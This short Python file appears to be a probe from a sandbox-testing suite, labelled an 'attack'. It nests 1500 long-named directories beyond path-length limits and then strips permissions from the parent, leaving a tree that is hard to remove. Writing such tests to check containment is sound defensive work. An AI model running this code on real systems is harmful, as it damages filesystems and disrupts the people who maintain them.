# /// attack
# group = "Z3"
# says = "nests folders deeper than any path may be, without the right to remove them"
# probe = true
# through = ["process"]
# ///
import os


def attempt():
    for _ in range(1500):
        os.mkdir("deep" * 30)
        os.chdir("deep" * 30)
    os.chmod("..", 0)
    return True
